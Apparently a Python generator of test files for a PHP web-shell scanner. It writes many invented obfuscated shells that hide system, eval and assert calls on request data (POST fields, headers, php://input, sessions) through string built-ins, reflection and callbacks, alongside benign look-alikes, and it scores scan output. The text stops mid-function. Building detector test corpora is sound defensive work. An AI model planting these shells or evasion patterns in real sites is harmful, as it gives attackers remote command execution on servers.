#!/usr/bin/env python3
"""Invented "one-word" and obfuscated web shells for the PHP layer's constant
folding and value flow (session 15, branch folds5), and benign look-alikes.

Written from how such shells are built, not from any sample: the callee is
built by one of PHP's pure string or array built-ins (substr, str_pad,
sprintf, strtr, range, base_convert, pack, ...) or carried through an array,
a destructuring, a foreach, compact()/extract(), $GLOBALS, a static, a class
constant, define()/constant(), a closure, a variable variable, a
'Class::method' string, a first-class callable, reflection, a callback of
array_walk & co, __invoke or __call; the input comes from the superglobals
or from where they hide it (extract($_POST), parse_str(), headers,
php://input, an upload's name, the session, putenv/getenv). The benign side
is what real applications do that looks like it: a router calling the
method its table names, template filters, hook registries, array_map over
literal callables, view rendering with extract() of its own variables.

Usage: foldgen.py --out DIR [--seed N] [--per N]
Writes DIR/<construct>_<i>.php and DIR/foldgen.tsv (file, kind, construct),
kind being "mal" or "benign". The text is scanned, never run.
       foldgen.py --score DIR --json SCAN.jsonl
Prints per construct: files, found (any finding), high+ (any rule) and
php-high+ (a php.* finding of high or critical: the PHP layer alone).
"""

import argparse
import os
import random
import string

KEYS = ["c", "cmd", "x", "p", "a", "q", "z", "e", "k", "d", "t", "pass", "code", "img", "id"]
VARS = ["a", "b", "f", "g", "h", "o", "s", "u", "w", "fn", "cb", "z", "_", "__", "x1", "k0", "q"]
CLS = ["Cfg", "Helper", "Cache_Item", "WP_Tmp", "Loader", "Util", "Sess", "Mod"]


def sq(s):
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


def dq(s):
    out = []
    for ch in s:
        if ch in "\\\"$":
            out.append("\\" + ch)
        elif ch == "\n":
            out.append("\\n")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


class G:
    def __init__(self, rng):
        self.r = rng
        self.used = set()

    def var(self):
        r = self.r
        for _ in range(100):
            v = r.choice(VARS) + (str(r.randint(0, 99)) if r.random() < 0.4 else "")
            if v not in self.used:
                self.used.add(v)
                return "$" + v
        return "$v%d" % len(self.used)

    def cls(self):
        return self.r.choice(CLS) + str(self.r.randint(1, 9))

    def key(self):
        return self.r.choice(KEYS)

    def src(self):
        """Request input, in one of the plain forms."""
        r = self.r
        k = sq(self.key())
        return r.choice(["$_POST[%s]", "$_GET[%s]", "$_REQUEST[%s]", "$_COOKIE[%s]"]) % k

    def code_fn(self):
        """A function that runs code or a command with one argument."""
        return self.r.choice(["system", "passthru", "shell_exec", "assert", "exec", "system"])

    def echo(self, call):
        return call + ";" if self.r.random() < 0.6 else "echo " + call + ";"


def split2(r, s):
    i = r.randint(1, len(s) - 1)
    return s[:i], s[i:]


# ------------------------------------------------------------ callee folds
# Each returns (prelude, callee_expression) building the name nm.

def f_substr(g, nm):
    r = g.r
    pre = "".join(r.choice(string.ascii_lowercase) for _ in range(r.randint(1, 5)))
    post = "".join(r.choice(string.ascii_lowercase) for _ in range(r.randint(0, 4)))
    form = r.choice(["pos", "neg", "mb"])
    if form == "neg" and post:
        return "", "substr(%s, %d, %d)" % (sq(pre + nm + post), -(len(nm) + len(post)), len(nm))
    fn = "mb_substr" if form == "mb" else "substr"
    return "", "%s(%s, %d, %d)" % (fn, sq(pre + nm + post), len(pre), len(nm))


def f_str_pad(g, nm):
    a, b = split2(g.r, nm)
    side = g.r.choice(["right", "left"])
    if side == "left":
        return "", "str_pad(%s, %d, %s, STR_PAD_LEFT)" % (sq(b), len(nm), sq(a))
    return "", "str_pad(%s, %d, %s)" % (sq(a), len(nm), sq(b))


def f_str_repeat(g, nm):
    a, b = nm[0], nm[1:]
    return "", "str_repeat(%s, 1) . %s . str_repeat('', %d)" % (sq(a), sq(b), g.r.randint(2, 9))


def f_case(g, nm):
    r = g.r
    form = r.choice(["ucfirst", "lcfirst", "ucwords", "upper"])
    if form == "lcfirst":
        return "", "lcfirst(%s)" % sq(nm[0].upper() + nm[1:])
    if form == "ucwords":
        return "", "strtolower(ucwords(%s))" % sq(nm.upper())
    if form == "upper":
        return "", "strtolower(strtoupper(%s))" % sq(nm)
    return "", "strtolower(ucfirst(%s))" % sq(nm.upper())


def f_trim(g, nm):
    r = g.r
    form = r.choice(["trim", "rtrim", "ltrim", "chars"])
    if form == "trim":
        return "", "trim(%s)" % sq("  " + nm + " \t")
    if form == "rtrim":
        return "", "rtrim(%s, %s)" % (sq(nm + "XY9"), sq("XY9"))
    if form == "ltrim":
        return "", "ltrim(%s, %s)" % (sq("0_0" + nm), sq("_0"))
    return "", "trim(%s, %s)" % (sq("#!" + nm + "!#"), sq("#!"))


def f_sprintf(g, nm):
    r = g.r
    a, b = split2(r, nm)
    form = r.choice(["ss", "mix", "c", "vs"])
    if form == "ss":
        return "", "sprintf('%%s%%s', %s, %s)" % (sq(a), sq(b))
    if form == "mix":
        return "", "sprintf(%s, %s)" % (sq(a.replace("%", "%%") + "%s"), sq(b))
    if form == "c":
        return "", "sprintf(%s, %s)" % (sq("%c" * len(nm)), ", ".join(str(ord(c)) for c in nm))
    return "", "vsprintf('%%s%%s', [%s, %s])" % (sq(a), sq(b))


def f_strtr(g, nm):
    r = g.r
    if r.random() < 0.5:
        junk = "".join(r.choice("0123456789") for _ in nm)
        frm = "".join(sorted(set(junk)))
        # map each digit to one letter: build a word of digits
        letters = {}
        word = ""
        for c in nm:
            d = None
            for k, v in letters.items():
                if v == c:
                    d = k
            if d is None:
                d = str(len(letters))
                letters[d] = c
            word += d
        frm = "".join(sorted(letters))
        to = "".join(letters[k] for k in frm)
        return "", "strtr(%s, %s, %s)" % (sq(word), sq(frm), sq(to))
    a, b = split2(r, nm)
    return "", "strtr('{A}{B}', ['{A}' => %s, '{B}' => %s])" % (sq(a), sq(b))


def f_str_split(g, nm):
    r = g.r
    v = g.var()
    if r.random() < 0.5:
        return "%s = str_split(%s);\n" % (v, sq(nm[::-1])), "implode('', array_reverse(%s))" % v
    return "%s = str_split(%s, 2);\n" % (v, sq(nm)), "join(%s)" % v


def f_array_ops(g, nm):
    r = g.r
    a, b = split2(r, nm)
    v = g.var()
    form = r.choice(["slice", "merge", "flip", "keys", "values", "reverse"])
    if form == "slice":
        return ("%s = ['x', 'y', %s, %s, 'z'];\n" % (v, sq(a), sq(b)),
                "implode('', array_slice(%s, 2, 2))" % v)
    if form == "merge":
        return ("%s = array_merge([%s], [%s]);\n" % (v, sq(a), sq(b)), "implode(%s)" % v)
    if form == "flip":
        return ("%s = array_flip([%s => 0, %s => 1]);\n" % (v, sq(a), sq(b)),
                "%s[0] . %s[1]" % (v, v))
    if form == "keys":
        return ("%s = array_keys([%s => 1, %s => 2]);\n" % (v, sq(a), sq(b)),
                "%s[0] . %s[1]" % (v, v))
    if form == "values":
        return ("%s = array_values(['k' => %s, 'j' => %s]);\n" % (v, sq(a), sq(b)),
                "%s[0] . %s[1]" % (v, v))
    return ("%s = array_reverse([%s, %s]);\n" % (v, sq(b), sq(a)), "%s[0] . %s[1]" % (v, v))


def f_range(g, nm):
    v = g.var()
    if g.r.random() < 0.5:
        idx = " . ".join("%s[%d]" % (v, ord(c) - 97) for c in nm)
        return "%s = range('a', 'z');\n" % v, idx
    idx = " . ".join("chr(%s[%d])" % (v, ord(c) - 90) for c in nm)
    return "%s = range(90, 130);\n" % v, idx


def f_chunk_split(g, nm):
    r = g.r
    if r.random() < 0.5:
        return "", "str_replace('-', '', chunk_split(%s, %d, '-'))" % (sq(nm), r.randint(1, 3))
    return "", "str_replace(\"\\n\", '', wordwrap(%s, %d, \"\\n\", true))" % (sq(nm), r.randint(1, 3))


def f_strstr(g, nm):
    r = g.r
    form = r.choice(["strstr", "strrchr", "before", "stristr"])
    if form == "strstr":
        return "", "substr(strstr(%s, '|'), 1)" % sq("ab|" + nm)
    if form == "strrchr":
        return "", "substr(strrchr(%s, '/'), 1)" % sq("/usr/x/" + nm)
    if form == "stristr":
        return "", "stristr(%s, %s)" % (sq("QQ" + nm), sq(nm[:2].upper()))
    return "", "strstr(%s, '.', true)" % sq(nm + ".php")


def f_pack(g, nm):
    r = g.r
    form = r.choice(["H", "C", "uu", "bin2hex"])
    if form == "H":
        return "", "pack('H*', %s)" % sq(nm.encode().hex())
    if form == "C":
        return "", "pack('C*', %s)" % ", ".join(str(ord(c)) for c in nm)
    if form == "uu":
        import binascii
        uu = binascii.b2a_uu(nm.encode()).decode()
        return "", "convert_uudecode(%s)" % dq(uu)
    return "", "hex2bin(%s)" % sq(nm.encode().hex())


def f_base_convert(g, nm):
    r = g.r
    form = r.choice(["b36", "dechex", "hexdec", "octdec"])
    if form == "b36":
        n = int(nm, 36)
        return "", "base_convert(%s, 10, 36)" % sq(str(n))
    if form == "dechex":
        return "", "hex2bin(dechex(%d))" % int(nm.encode().hex(), 16)
    if form == "hexdec":
        return "", " . ".join("chr(hexdec(%s))" % sq("%x" % ord(c)) for c in nm)
    return "", " . ".join("chr(octdec(%s))" % sq("%o" % ord(c)) for c in nm)


def f_strrev_map(g, nm):
    r = g.r
    if r.random() < 0.5:
        return "", "implode('', array_map('chr', [%s]))" % ", ".join(str(ord(c)) for c in nm)
    return "", "implode('', array_map('strrev', [%s]))" % ", ".join(sq(c) for c in nm)


def f_qp_mb(g, nm):
    r = g.r
    form = r.choice(["qp", "mb_lower", "mb_upper"])
    if form == "qp":
        return "", "quoted_printable_decode(%s)" % sq("".join(
            "=%02X" % ord(c) if r.random() < 0.5 else c for c in nm))
    if form == "mb_upper":
        return "", "strtolower(mb_strtoupper(%s))" % sq(nm)
    return "", "mb_strtolower(%s)" % sq(nm.upper())


def f_array_pick(g, nm):
    """The name picked out of a literal table by an array built-in."""
    r = g.r
    v = g.var()
    form = r.choice(["search", "key", "first", "last", "combine", "fill_keys", "column",
                     "unique", "diff", "filter", "getcsv"])
    if form == "search":
        return "", "array_search(2, [%s => 1, %s => 2])" % (sq("trim"), sq(nm))
    if form == "key":
        return "%s = [%s => 1, 'b' => 2];\n" % (v, sq(nm)), "key(%s)" % v
    if form == "first":
        return "", "array_key_first([%s => 0, 'z' => 1])" % sq(nm)
    if form == "last":
        return "", "array_key_last(['z' => 0, %s => 1])" % sq(nm)
    if form == "combine":
        return "%s = array_combine(['a', 'b'], ['md5', %s]);\n" % (v, sq(nm)), "%s['b']" % v
    if form == "fill_keys":
        return "%s = array_fill_keys(['run', 'go'], %s);\n" % (v, sq(nm)), "%s['go']" % v
    if form == "column":
        return ("%s = array_column([['id' => 1, 'cb' => %s]], 'cb', 'id');\n" % (v, sq(nm)),
                "%s[1]" % v)
    if form == "unique":
        return "", "implode(array_unique(str_split(%s)))" % sq(nm) if len(set(nm)) == len(nm) \
            else ("", "implode(array_unique([%s, %s]))" % (sq(nm), sq(nm)))[1]
    if form == "diff":
        return "", "implode(array_diff(['x', %s, 'y'], ['x', 'y']))" % sq(nm)
    if form == "filter":
        return "", "implode(array_filter(['', %s, '0', null]))" % sq(nm)
    return "", "str_getcsv(%s)[1]" % sq("a," + nm + ",b")


def f_json_qs(g, nm):
    r = g.r
    v = g.var()
    a, b = split2(r, nm)
    form = r.choice(["json_obj", "json_list", "qs_arr", "qs_vars"])
    if form == "json_obj":
        return ("%s = json_decode(%s, true);\n" % (v, sq('{"k":"%s","v":1}' % nm)), "%s['k']" % v)
    if form == "json_list":
        return ("%s = json_decode(%s);\n" % (v, sq('["%s","%s"]' % (a, b))), "%s[0] . %s[1]" % (v, v))
    if form == "qs_arr":
        enc = "".join("%%%02x" % ord(c) if r.random() < 0.4 else c for c in nm)
        return ("parse_str(%s, %s);\n" % (sq("x=1&fn=" + enc), v), "%s['fn']" % v)
    return ("parse_str(%s);\n" % sq("qa=%s&qb=%s" % (a, b)), "$qa . $qb")


def f_sprintf_pos(g, nm):
    r = g.r
    a, b = split2(r, nm)
    form = r.choice(["pos", "pad", "prec", "hex"])
    if form == "pos":
        return "", "sprintf('%%2$s%%1$s', %s, %s)" % (sq(b), sq(a))
    if form == "pad":
        return "", "ltrim(sprintf(\"%%'#%ds\", %s), '#')" % (len(nm) + r.randint(1, 5), sq(nm))
    if form == "prec":
        return "", "sprintf('%%.%ds', %s)" % (len(nm), sq(nm + "XYZ"))
    return "", "hex2bin(sprintf(%s, %s))" % (sq("%x" * len(nm)), ", ".join(str(ord(c)) for c in nm))


def f_closure_map(g, nm):
    r = g.r
    form = r.choice(["arrow", "closure", "reduce"])
    if form == "arrow":
        k = r.randint(1, 5)
        return "", "implode(array_map(fn($c) => chr($c - %d), [%s]))" % (
            k, ", ".join(str(ord(c) + k) for c in nm))
    if form == "closure":
        return "", "implode('', array_map(function ($c) { return strrev($c); }, [%s]))" % (
            ", ".join(sq(c) for c in nm))
    a, b = split2(r, nm)
    return "", "array_reduce([%s, %s], fn($x, $y) => $x . $y, '')" % (sq(a), sq(b))


FOLDS = {
    "substr": f_substr, "str_pad": f_str_pad, "str_repeat": f_str_repeat, "case": f_case,
    "trim": f_trim, "sprintf": f_sprintf, "strtr": f_strtr, "str_split": f_str_split,
    "array_ops": f_array_ops, "range": f_range, "chunk_split": f_chunk_split,
    "strstr": f_strstr, "pack": f_pack, "base_convert": f_base_convert, "array_map": f_strrev_map,
    "qp_mb": f_qp_mb, "array_pick": f_array_pick, "json_qs": f_json_qs,
    "sprintf_pos": f_sprintf_pos, "closure_map": f_closure_map,
}


def fold_shell(g, name):
    nm = g.code_fn()
    pre, expr = FOLDS[name](g, nm)
    form = g.r.choice(["var", "var", "direct"])
    if form == "direct":
        return pre + g.echo("(%s)(%s)" % (expr, g.src()))
    f = g.var()
    return pre + "%s = %s;\n" % (f, expr) + g.echo("%s(%s)" % (f, g.src()))


# ------------------------------------------------------------ value flows

def v_array_index(g):
    r = g.r
    a = g.var()
    nm = g.code_fn()
    items = [sq(x) for x in ["trim", "md5", nm, "date"]]
    r.shuffle(items)
    i = items.index(sq(nm))
    if r.random() < 0.5:
        return "%s = [%s];\n%s" % (a, ", ".join(items), g.echo("%s[%d](%s)" % (a, i, g.src())))
    k = r.choice(["run", "go", "x"])
    return ("%s = array('n' => 'strlen', %s => %s);\n%s = %s[%s];\n%s"
            % (a, sq(k), sq(nm), "$" + k, a, sq(k), g.echo("$%s(%s)" % (k, g.src()))))


def v_list(g):
    r = g.r
    f, c = g.var(), g.var()
    nm = g.code_fn()
    form = r.choice(["list", "short", "keyed", "nested"])
    if form == "list":
        s = "list(%s, %s) = array(%s, %s);\n" % (f, c, sq(nm), g.src())
    elif form == "short":
        s = "[%s, %s] = [%s, %s];\n" % (f, c, sq(nm), g.src())
    elif form == "keyed":
        s = "['f' => %s, 'c' => %s] = ['c' => %s, 'f' => %s];\n" % (f, c, g.src(), sq(nm))
    else:
        s = "[[, %s], %s] = [['x', %s], %s];\n" % (f, c, sq(nm), g.src())
    return s + g.echo("%s(%s)" % (f, c))


def v_foreach(g):
    r = g.r
    f, k = g.var(), g.var()
    nm = g.code_fn()
    if r.random() < 0.5:
        return "foreach ([%s] as %s) {\n    %s\n}\n" % (sq(nm), f, g.echo("%s(%s)" % (f, g.src())))
    return ("foreach (array(%s => %s) as %s => %s) {\n    %s\n}\n"
            % (sq(g.key()), sq(nm), k, f, g.echo("%s(%s)" % (f, g.src()))))


def v_compact_extract(g):
    r = g.r
    nm = g.code_fn()
    form = r.choice(["extract", "compact"])
    if form == "extract":
        return ("extract(array('fn' => %s, 'arg' => %s));\n%s"
                % (sq(nm), g.src(), g.echo("$fn($arg)")))
    a = g.var()
    return ("$fn = %s;\n$arg = %s;\n%s = compact('fn', 'arg');\n%s"
            % (sq(nm), g.src(), a, g.echo("%s['fn'](%s['arg'])" % (a, a))))


def v_globals(g):
    r = g.r
    nm = g.code_fn()
    fn = "f" + str(r.randint(1, 99))
    k = r.choice(["cfg", "h", "x"])
    if r.random() < 0.5:
        return ("$GLOBALS[%s] = %s;\nfunction %s($c) {\n    return $GLOBALS[%s]($c);\n}\n%s"
                % (sq(k), sq(nm), fn, sq(k), g.echo("%s(%s)" % (fn, g.src()))))
    return ("$%s = %s;\nfunction %s() {\n    global $%s;\n    %s\n}\n%s();\n"
            % (k, sq(nm), fn, k, g.echo("$%s(%s)" % (k, g.src())), fn))


def v_static_const(g):
    r = g.r
    nm = g.code_fn()
    c = g.cls()
    form = r.choice(["const", "static_prop", "static_var", "self"])
    if form == "const":
        return ("class %s {\n    const F = %s;\n}\n%s = %s::F;\n%s"
                % (c, sq(nm), "$f", c, g.echo("$f(%s)" % g.src())))
    if form == "static_prop":
        return ("class %s {\n    public static $f = %s;\n}\n%s"
                % (c, sq(nm), g.echo("(%s::$f)(%s)" % (c, g.src()))))
    if form == "self":
        return ("class %s {\n    const F = %s;\n    static function run($x) {\n        $f = self::F;\n"
                "        return $f($x);\n    }\n}\n%s"
                % (c, sq(nm), g.echo("%s::run(%s)" % (c, g.src()))))
    return ("function run($x) {\n    static $f = %s;\n    return $f($x);\n}\n%s"
            % (sq(nm), g.echo("run(%s)" % g.src())))


def v_define(g):
    r = g.r
    nm = g.code_fn()
    a, b = split2(r, nm)
    K = r.choice(["WP_CACHE_KEY", "_F", "XX", "APP_H"])
    form = r.choice(["define", "constant", "const"])
    if form == "define":
        return "define(%s, %s . %s);\n$f = %s;\n%s" % (sq(K), sq(a), sq(b), K, g.echo("$f(%s)" % g.src()))
    if form == "const":
        return "const %s = %s;\n%s" % (K, sq(nm), g.echo("(%s)(%s)" % (K, g.src())))
    return ("define(%s, %s);\n%s" % (sq(K), sq(nm), g.echo("constant(%s)(%s)" % (sq(K), g.src()))))


def v_closure(g):
    r = g.r
    nm = g.code_fn()
    f = g.var()
    form = r.choice(["closure", "arrow", "use", "iife"])
    if form == "closure":
        return ("%s = function ($c) { return %s($c); };\n%s"
                % (f, nm, g.echo("%s(%s)" % (f, g.src()))))
    if form == "arrow":
        return "%s = fn($c) => %s($c);\n%s" % (f, nm, g.echo("%s(%s)" % (f, g.src())))
    if form == "use":
        h = g.var()
        return ("%s = %s;\n%s = function ($c) use (%s) { return %s($c); };\n%s"
                % (h, sq(nm), f, h, h, g.echo("%s(%s)" % (f, g.src()))))
    return "(function ($c) { %s($c); })(%s);\n" % (nm, g.src())


def v_varvar(g):
    r = g.r
    nm = g.code_fn()
    n = g.var()
    form = r.choice(["name", "brace", "double"])
    if form == "name":
        return "%s = 'q';\n$%s = %s;\n%s" % (n, n, sq(nm), g.echo("$q(%s)" % g.src()))
    if form == "brace":
        return ("${'f' . 'n'} = %s;\n%s" % (sq(nm), g.echo("$fn(%s)" % g.src())))
    m = g.var()
    return ("%s = %s;\n%s = 'p';\n$%s = %s;\n%s"
            % (m, sq(nm), n, n, m, g.echo("$p(%s)" % g.src())))


def v_static_string(g):
    r = g.r
    c = g.cls()
    body = r.choice(["eval($c);", "system($c);", "assert($c);"])
    form = r.choice(["cuf", "var", "array"])
    cls = "class %s {\n    public static function r($c) {\n        %s\n    }\n}\n" % (c, body)
    if form == "cuf":
        return cls + "call_user_func(%s, %s);\n" % (sq(c + "::r"), g.src())
    if form == "var":
        m = g.var()
        return cls + "%s = %s;\n%s(%s);\n" % (m, sq(c + "::r"), m, g.src())
    return cls + "call_user_func_array([%s, 'r'], [%s]);\n" % (sq(c), g.src())


def v_first_class(g):
    r = g.r
    nm = g.code_fn()
    f = g.var()
    form = r.choice(["fcc", "fromcallable", "strfcc"])
    if form == "fcc":
        return "%s = %s(...);\n%s" % (f, nm, g.echo("%s(%s)" % (f, g.src())))
    if form == "fromcallable":
        return ("%s = Closure::fromCallable(%s);\n%s"
                % (f, sq(nm), g.echo("%s(%s)" % (f, g.src()))))
    h = g.var()
    return "%s = %s;\n%s = %s(...);\n%s" % (h, sq(nm), f, h, g.echo("%s(%s)" % (f, g.src())))


def v_reflection(g):
    r = g.r
    nm = g.code_fn()
    a, b = split2(r, nm)
    if r.random() < 0.5:
        return "(new ReflectionFunction(%s . %s))->invoke(%s);\n" % (sq(a), sq(b), g.src())
    f = g.var()
    return ("%s = new ReflectionFunction(%s);\n%s->invokeArgs([%s]);\n"
            % (f, sq(nm), f, g.src()))


def v_callbacks(g):
    r = g.r
    nm = r.choice(["system", "passthru", "assert"])
    a = g.var()
    form = r.choice(["walk", "filter", "uasort", "iterator", "map", "reduce"])
    if form == "walk":
        return "%s = [%s];\narray_walk(%s, %s);\n" % (a, g.src(), a, sq(nm))
    if form == "filter":
        return "array_filter([%s], %s);\n" % (g.src(), sq(nm))
    if form == "uasort":
        return "%s = [%s, 1];\nuasort(%s, %s);\n" % (a, g.src(), a, sq(nm))
    if form == "iterator":
        it = g.var()
        return ("%s = new ArrayIterator([%s]);\niterator_apply(%s, %s, [%s]);\n"
                % (it, g.src(), it, sq(nm), g.src()))
    if form == "reduce":
        return "array_reduce([1], function ($c, $i) { return %s(%s); });\n" % (nm, g.src())
    return "array_map(%s, [%s]);\n" % (sq(nm), g.src())


def v_magic(g):
    r = g.r
    c = g.cls()
    if r.random() < 0.5:
        nm = g.code_fn()
        o = g.var()
        return ("class %s {\n    public function __invoke($x) {\n        return %s($x);\n    }\n}\n"
                "%s = new %s();\n%s" % (c, nm, o, c, g.echo("%s(%s)" % (o, g.src()))))
    nm = g.code_fn()
    return ("class %s {\n    public function __call($n, $a) {\n        return $n($a[0]);\n    }\n}\n"
            "(new %s())->%s(%s);\n" % (c, c, nm, g.src()))


# ------------------------------------------------------------ input flows

def i_extract(g):
    r = g.r
    sg = r.choice(["$_POST", "$_REQUEST", "$_GET", "$_COOKIE"])
    form = r.choice(["call", "eval", "cuf"])
    if form == "call":
        return "extract(%s);\n%s" % (sg, g.echo("$a($b)"))
    if form == "eval":
        return "@extract(%s);\n@eval($code);\n" % sg
    return "extract(%s, EXTR_OVERWRITE);\ncall_user_func($f, $c);\n" % sg


def i_parse_str(g):
    r = g.r
    form = r.choice(["qs", "input_arr", "cookie"])
    if form == "qs":
        return "parse_str($_SERVER['QUERY_STRING']);\n%s" % g.echo("$f($c)")
    if form == "input_arr":
        o = g.var()
        return ("parse_str(file_get_contents('php://input'), %s);\n%s"
                % (o, g.echo("%s['f'](%s['c'])" % (o, o))))
    o = g.var()
    return "parse_str(base64_decode($_COOKIE['s']), %s);\neval(%s['c']);\n" % (o, o)


def i_headers(g):
    r = g.r
    nm = g.code_fn()
    h = r.choice(["X_CMD", "X_DATA", "ACCEPT_LANG", "X_FORWARDED_HOST", "USER_AGENT"])
    form = r.choice(["server", "getallheaders", "apache", "getenv"])
    if form == "server":
        x = "$_SERVER[%s]" % sq("HTTP_" + h)
    elif form == "getallheaders":
        x = "getallheaders()[%s]" % sq(h.replace("_", "-").title())
    elif form == "apache":
        hv = g.var()
        return ("%s = apache_request_headers();\n%s"
                % (hv, g.echo("%s(%s[%s])" % (nm, hv, sq(h.title().replace("_", "-"))))))
    else:
        x = "getenv(%s)" % sq("HTTP_" + h)
    if r.random() < 0.5:
        return g.echo("%s(%s)" % (nm, x))
    return "eval(base64_decode(%s));\n" % x


def i_php_input(g):
    r = g.r
    form = r.choice(["eval", "cmd", "json", "stream"])
    if form == "eval":
        return "eval(file_get_contents('php://input'));\n"
    if form == "cmd":
        return g.echo("%s(file_get_contents('php://input'))" % g.code_fn())
    if form == "json":
        j = g.var()
        return ("%s = json_decode(file_get_contents('php://input'), true);\n%s"
                % (j, g.echo("%s[%s](%s[%s])" % (j, sq("f"), j, sq("a")))))
    h = g.var()
    return ("%s = fopen('php://input', 'r');\n@eval(stream_get_contents(%s));\n" % (h, h))


def i_files_name(g):
    r = g.r
    k = sq(r.choice(["f", "file", "upl", "img"]))
    if r.random() < 0.5:
        return g.echo("%s($_FILES[%s]['name'])" % (g.code_fn(), k))
    return "eval(base64_decode($_FILES[%s]['name']));\n" % k


def i_session(g):
    r = g.r
    k = sq(r.choice(["c", "tmp", "u", "last"]))
    form = r.choice(["eval", "cmd"])
    pre = "session_start();\nif (isset(%s)) {\n    $_SESSION[%s] = %s;\n}\n" % (g.src(), k, g.src())
    if form == "eval":
        return pre + "if (!empty($_SESSION[%s])) {\n    eval($_SESSION[%s]);\n}\n" % (k, k)
    return pre + g.echo("%s($_SESSION[%s])" % (g.code_fn(), k))


def i_env(g):
    r = g.r
    k = r.choice(["XC", "TMPV", "LC_X"])
    form = r.choice(["putenv", "ini"])
    if form == "putenv":
        return ("putenv(%s . %s);\n%s" % (sq(k + "="), g.src(), g.echo("%s(getenv(%s))" % (g.code_fn(), sq(k)))))
    return ("ini_set('user_agent', %s);\n%s"
            % (g.src(), g.echo("%s(ini_get('user_agent'))" % g.code_fn())))


def i_encode_chain(g):
    """The input through an encoder and its decoder (a no-op that hides the
    flow): uuencode, deflate, compress, quoted-printable, quotemeta."""
    r = g.r
    a = g.var()
    form = r.choice(["uu", "deflate", "compress", "encode", "qp", "meta"])
    chain = {"uu": "convert_uudecode(convert_uuencode(%s))",
             "deflate": "gzinflate(gzdeflate(%s))",
             "compress": "gzuncompress(gzcompress(%s, 9))",
             "encode": "gzdecode(gzencode(%s))",
             "qp": "quoted_printable_decode(quoted_printable_encode(%s))",
             "meta": "stripslashes(quotemeta(%s))"}[form]
    pre = "%s = %s;\n" % (a, g.src())
    if r.random() < 0.5:
        return pre + "@eval(%s);\n" % (chain % a)
    return pre + g.echo("%s(%s)" % (g.code_fn(), chain % a))


# ------------------------------------------------------------ combined

def c_combined(g):
    """A fold, a flow and a hidden input together."""
    r = g.r
    nm = g.code_fn()
    fold = r.choice(list(FOLDS))
    pre, expr = FOLDS[fold](g, nm)
    a = g.var()
    inp = r.choice(["$_SERVER['HTTP_X_T']", "file_get_contents('php://input')", g.src(),
                    "getallheaders()['X-T']"])
    form = r.choice(["arr", "const", "closure", "list"])
    if form == "arr":
        return pre + "%s = [%s, %s];\n%s" % (a, expr, inp, g.echo("%s[0](%s[1])" % (a, a)))
    if form == "const":
        K = "K" + str(r.randint(1, 99))
        return pre + "define(%s, %s);\n%s" % (sq(K), expr, g.echo("constant(%s)(%s)" % (sq(K), inp)))
    if form == "closure":
        h = g.var()
        return (pre + "%s = %s;\n%s = function ($x) use (%s) { return %s($x); };\n%s"
                % (h, expr, a, h, h, g.echo("%s(%s)" % (a, inp))))
    f, c = g.var(), g.var()
    return pre + "list(%s, %s) = array(%s, %s);\n%s" % (f, c, expr, inp, g.echo("%s(%s)" % (f, c)))


MAL = {}
for _n in FOLDS:
    MAL["fold_" + _n] = (lambda n: lambda g: fold_shell(g, n))(_n)
MAL.update({
    "flow_array_index": v_array_index, "flow_list": v_list, "flow_foreach": v_foreach,
    "flow_compact_extract": v_compact_extract, "flow_globals": v_globals,
    "flow_static_const": v_static_const, "flow_define": v_define, "flow_closure": v_closure,
    "flow_varvar": v_varvar, "flow_static_string": v_static_string,
    "flow_first_class": v_first_class, "flow_reflection": v_reflection,
    "flow_callbacks": v_callbacks, "flow_magic": v_magic,
    "in_extract": i_extract, "in_parse_str": i_parse_str, "in_headers": i_headers,
    "in_php_input": i_php_input, "in_files_name": i_files_name, "in_session": i_session,
    "in_env": i_env, "in_encode_chain": i_encode_chain, "combined": c_combined,
})


# ------------------------------------------------------------ benign look-alikes

def b_router(g):
    r = g.r
    c = g.cls()
    return ("class %sController {\n    public function index() { return 'home'; }\n"
            "    public function show($id) { return 'item ' . (int) $id; }\n}\n"
            "$routes = ['home' => ['%sController', 'index'], 'item' => ['%sController', 'show']];\n"
            "$r = isset($_GET['r'], $routes[$_GET['r']]) ? $_GET['r'] : 'home';\n"
            "list($cls, $method) = $routes[$r];\n$ctl = new $cls();\n"
            "echo %s;\n" % (c, c, c, r.choice(["$ctl->$method($_GET['id'] ?? 0)",
                                             "call_user_func([$ctl, $method], $_GET['id'] ?? 0)",
                                             "call_user_func_array([$ctl, $method], [$_GET['id'] ?? 0])"])))


def b_template_filters(g):
    r = g.r
    return ("$filters = array('upper' => 'strtoupper', 'lower' => 'strtolower', 'trim' => 'trim',\n"
            "    'title' => 'ucwords', 'e' => 'htmlspecialchars');\n"
            "function apply_filter($name, $value) {\n    global $filters;\n"
            "    if (!isset($filters[$name])) {\n        return $value;\n    }\n"
            "    $f = $filters[$name];\n    return $f($value);\n}\n"
            "echo apply_filter(%s, %s);\n" % (sq(r.choice(["upper", "e", "title"])), g.src()))


def b_hooks(g):
    return ("$hooks = array();\nfunction add_hook($name, $cb, $prio = 10) {\n    global $hooks;\n"
            "    $hooks[$name][$prio][] = $cb;\n}\nfunction run_hook($name, $value) {\n"
            "    global $hooks;\n    if (empty($hooks[$name])) return $value;\n"
            "    ksort($hooks[$name]);\n    foreach ($hooks[$name] as $cbs) {\n"
            "        foreach ($cbs as $cb) {\n            $value = call_user_func($cb, $value);\n"
            "        }\n    }\n    return $value;\n}\nadd_hook('title', 'trim');\n"
            "add_hook('title', 'ucfirst', 20);\nadd_hook('title', function ($t) { return $t . ' | Site'; });\n"
            "echo htmlspecialchars(run_hook('title', %s));\n" % g.src())


def b_array_map(g):
    r = g.r
    form = r.choice(["map", "filter", "walk", "usort"])
    if form == "map":
        return "$items = array_map('trim', explode(',', %s));\necho implode(', ', array_map('htmlspecialchars', $items));\n" % g.src()
    if form == "filter":
        return "$ids = array_filter(array_map('intval', (array) %s));\necho count($ids);\n" % g.src()
    if form == "walk":
        return ("$data = (array) %s;\narray_walk($data, function (&$v, $k) { $v = strip_tags($v); });\n"
                "print_r($data);\n" % g.src())
    return "$rows = (array) %s;\nusort($rows, 'strcmp');\necho implode(\"\\n\", $rows);\n" % g.src()


def b_view(g):
    return ("function render($template, array $vars = array()) {\n    extract($vars, EXTR_SKIP);\n"
            "    ob_start();\n    include __DIR__ . '/views/' . basename($template) . '.php';\n"
            "    return ob_get_clean();\n}\necho render('page', array('title' => %s, 'year' => date('Y')));\n"
            % ("htmlspecialchars(%s)" % g.src()))


def b_strings(g):
    r = g.r
